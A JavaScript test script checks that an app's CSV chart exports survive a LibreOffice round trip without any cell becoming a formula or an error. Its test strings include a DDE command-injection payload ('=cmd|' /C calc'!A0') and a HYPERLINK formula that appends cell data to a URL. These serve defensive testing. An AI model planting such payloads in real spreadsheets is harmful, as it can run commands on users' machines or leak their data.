// Whether a spreadsheet takes a chart's tables for what they are: LibreOffice opens them, keeps them as a workbook and saves
// them as tables again, and the app opens what came of it.
//
//   make bench
//
// No cell may have become a formula or an error, none may read otherwise, and the chart must be the same again.
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { isDeepStrictEqual } from "node:util";
import { chromium } from "@playwright/test";
import { launchOptions } from "../browser.mjs";
import { file, record } from "../data.mjs";
import { App } from "../pages/app.mjs";
import { Give } from "../pages/give.mjs";
import { Opening } from "../pages/opening.mjs";
import { serve } from "../../tools/serve.mjs";

/** What spreadsheets make something else of, or lose. SYNTHETIC. */
const NASTY = [
  '=HYPERLINK("http://example.org/?" & A1, "Click here")',
  "=1+1",
  "+ more of this",
  "-x, or less of it",
  "- one thing\n- another\n\n- a third",
  "@SUM(A1:A9)",
  "'=2*3",
  "＝1＋1",
  "=cmd|' /C calc'!A0",
  "{=1+1}",
  "#REF!",
  "“Well done”, she says; \"well done\"\tagain",
  "'Quoted', and 'tis so",
  "Zürich: größer, naïve, Łódź, 音楽",
  "Sings 🎵 with them 👩🏽‍🏫",
  "Two  spaces, and one at the end ",
  ...["8E2", "3/4", "May 5", "10:30", "50%", "007", "1.10", "9.30", "1,000", "3,50", "1.5.", "TRUE", "false", "+3", "-2.50"],
];
const FORMATS = ["rows", "side-by-side"];
/** Commas, quotation marks, UTF-8, from the first line on. */
const AS_CSV = "44,34,76,1";
const CONTROL = "control";

/** Two times of attributes with such words: each word is an attribute, an opposite, and a reason on both days. */
function nastyChart() {
  const turned = (by) => NASTY.map((_, at) => NASTY[(at + by) % NASTY.length]);
  const poles = NASTY.map((text, at) => [text, turned(1)[at]]);
  const rated = (by) => Object.assign(NASTY.map((_, at) => (at + by) % 11), { finished: true, whys: turned(by) });
  return record({ poles, times: [rated(2), rated(5)], owner: NASTY[0] });
}

/** Lets LibreOffice make files of another kind of these, into this folder, where it has a profile of its own as well. */
function convert(folder, to, files, options = []) {
  const args = ["--headless", ...options, "--convert-to", to, "--outdir", folder, ...files];
  execFileSync("soffice", [`-env:UserInstallation=file://${folder}/profile`, ...args], { stdio: "ignore", timeout: 120_000 });
}

/** The cells of a table, line by line (RFC 4180). */
function cellsOf(text) {
  const lines = [[]];
  for (const [, quoted, plain, end] of text.replace(/^\uFEFF/, "").matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    lines.at(-1).push(quoted?.replaceAll('""', '"') ?? plain);
    if (end.endsWith("\n")) lines.push([]);
  }
  return lines.slice(0, -1);
}

/** What a table carries of a chart and a person would read. */
const read = ({ subject, owner, made_on, instrument, occasions }) => ({
  chart: [subject, owner, made_on],
  attributes: instrument.items.map(({ text, opposite }) => [text, opposite]),
  times: occasions.map(({ kind, rated_on, refers_to, finished }) => [kind, rated_on, refers_to, finished]),
  ratings: occasions.map(({ ratings }) => instrument.items.map(({ id }) => [ratings[id]?.answer, ratings[id]?.needed, ratings[id]?.why])),
});

const say = (what, found) => console.log(`${what.padEnd(36)} ${found}`);

/** Prints how much is wrong, and each kind of it once; with any of it the script fails. */
function judge(what, wrong) {
  say(what, wrong.length === 0 ? "none" : wrong.length);
  for (const each of new Set(wrong)) console.log(`  ${each}`);
  if (wrong.length > 0) process.exitCode = 1;
}

/** Opens a file in a browser that has nothing yet. */
async function opened(browser, baseURL, file) {
  const page = await (await browser.newContext({ baseURL, locale: "en-GB" })).newPage();
  await new App(page).openWith(file);
  return { page, give: new Give(page) };
}

/** The chart as its file has it. */
async function chartIn(give) {
  await give.open("chart", "file");
  return read(JSON.parse((await give.saved()).bytes).records[0]);
}

async function check(folder, browser, url) {
  const { page, give } = await opened(browser, url, file(nastyChart()));
  for (const format of FORMATS) {
    await give.open("chart", format);
    writeFileSync(join(folder, `${format}.csv`), (await give.saved()).bytes);
  }
  // Who looks for formulas must find this one.
  writeFileSync(join(folder, `${CONTROL}.csv`), "=1+1\n");
  const all = [...FORMATS, CONTROL];
  const back = join(folder, "back");
  mkdirSync(back);
  const files = (ending) => all.map((name) => join(folder, `${name}.${ending}`));
  convert(folder, "xlsx", files("csv"), [`--infilter=CSV:${AS_CSV}`]);
  convert(folder, "fods", files("xlsx"));
  convert(back, `csv:Text - txt - csv (StarCalc):${AS_CSV}`, files("xlsx"));

  const formulas = (name) => readFileSync(join(folder, `${name}.fods`), "utf8").match(/(table:formula|calcext:value-type="error").*/g) ?? [];
  judge("control: formulas overlooked", formulas(CONTROL).length > 0 ? [] : ["=1+1"]);
  for (const format of FORMATS) {
    const [ours, theirs] = [folder, back].map((place) => cellsOf(readFileSync(join(place, `${format}.csv`), "utf8")));
    say(format, `${ours.length} rows of ${ours[0].length} cells`);
    judge("  formulas and errors", formulas(format));
    const size = (lines) => lines.map((line) => line.length).join(" ");
    judge("  other numbers of cells in a row", size(ours) === size(theirs) ? [] : [`${size(ours)} → ${size(theirs)}`]);
    const pairs = ours.flatMap((line, row) => line.map((cell, at) => [cell, theirs[row]?.[at]]));
    const changed = pairs.filter(([before, after]) => before !== after);
    judge("  cells that read otherwise", changed.map((pair) => pair.map((cell) => JSON.stringify(cell)).join(" → ")));
  }

  const buffer = (format) => ({ name: `${format}.csv`, mimeType: "text/csv", buffer: readFileSync(join(back, `${format}.csv`)) });
  const [before, after] = [await chartIn(give), await chartIn((await opened(browser, url, buffer("rows"))).give)];
  const differs = Object.keys(before).filter((part) => !isDeepStrictEqual(before[part], after[part]));
  judge("rows, opened again: what differs", differs.map((part) => `${part}: ${JSON.stringify(before[part])} → ${JSON.stringify(after[part])}`));
  await page.goto("./#/more");
  await new Opening(page).pick(buffer("side-by-side"));
  await page.getByText("This table sets two times side by side, for reading.").waitFor();
  say("side-by-side, opened again", "said to be for reading");
}

const { error, stdout } = spawnSync("soffice", ["--version"], { encoding: "utf8" });
if (error) {
  console.log("LibreOffice is not installed (there is no soffice): nothing was checked");
} else {
  console.log(stdout.trim());
  const folder = mkdtempSync(join(tmpdir(), "roundel-spreadsheet-"));
  const server = await serve();
  const browser = await chromium.launch(launchOptions());
  try {
    await check(folder, browser, server.url);
  } finally {
    await browser.close();
    await server.stop();
    rmSync(folder, { recursive: true, force: true });
  }
}
